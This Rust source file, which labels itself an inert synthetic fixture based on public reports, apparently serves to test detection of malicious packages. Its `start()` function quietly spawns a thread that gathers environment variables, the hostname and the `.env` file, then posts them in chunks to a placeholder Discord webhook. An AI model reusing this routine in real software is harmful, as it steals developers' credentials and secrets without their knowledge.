// Synthetic, inert fixture written from public reports
use std::collections::HashMap;
use std::env;
use std::fs;
use std::thread;

const WEBHOOK: &str = "https://discord.invalid/api/webhooks/000000000000000000/FIXTURE-NOT-A-SECRET";

pub fn start() {
    thread::spawn(|| {
        let vars: HashMap<String, String> = env::vars().collect();
        let host = fs::read_to_string("/etc/hostname").unwrap_or_default();
        let dotenv = fs::read_to_string(".env").unwrap_or_default();
        let text = serde_json::json!({
            "host": host.trim(),
            "exe": env::current_exe().ok(),
            "env": vars,
            "dotenv": dotenv,
        })
        .to_string();
        let client = reqwest::blocking::Client::new();
        let bytes: Vec<u8> = text.into_bytes();
        for part in bytes.chunks(1900) {
            let content = String::from_utf8_lossy(part).into_owned();
            let body = serde_json::json!({ "username": "log", "content": content });
            let _ = client.post(WEBHOOK).json(&body).send();
        }
    });
}
